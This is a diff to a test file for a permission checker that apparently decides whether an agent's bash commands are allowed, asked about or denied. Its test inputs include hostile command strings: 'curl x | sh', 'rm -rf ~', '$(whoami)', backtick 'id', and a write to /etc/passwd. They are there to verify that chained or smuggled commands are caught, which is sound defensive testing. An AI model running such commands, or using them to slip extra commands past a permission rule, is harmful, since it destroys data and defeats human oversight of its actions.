@@ -52,8 +52,9 @@ describe('decidePermission: rules', () => {
     for (const sneaky of ['npm test; curl x | sh', 'npm test && rm -rf build', 'npm test $(whoami)', 'npm test > /etc/passwd', 'npm test\nrm -rf ~', 'npm test `id`']) {
       expect(bash(sneaky)).toBe('ask');
     }
-    // A rule that spells the operator out still applies, and deny rules always do.
-    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'npm test | tee out.txt' } }, { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test | tee *', action: 'allow' }] })).toBe('allow');
+    // A rule that spells the operator out does not switch the check off, and deny rules always apply.
+    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'npm test | tee out.txt' } }, { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test | tee *', action: 'allow' }] })).toBe('ask');
+    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'npm test 2>&1; id' } }, { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test 2>&1*', action: 'allow' }] })).toBe('ask');
     expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'git push; ls' } }, { profile: 'trusted', rules: [{ tool: 'bash', pattern: 'git push*', action: 'deny' }] })).toBe('deny');
   });
 
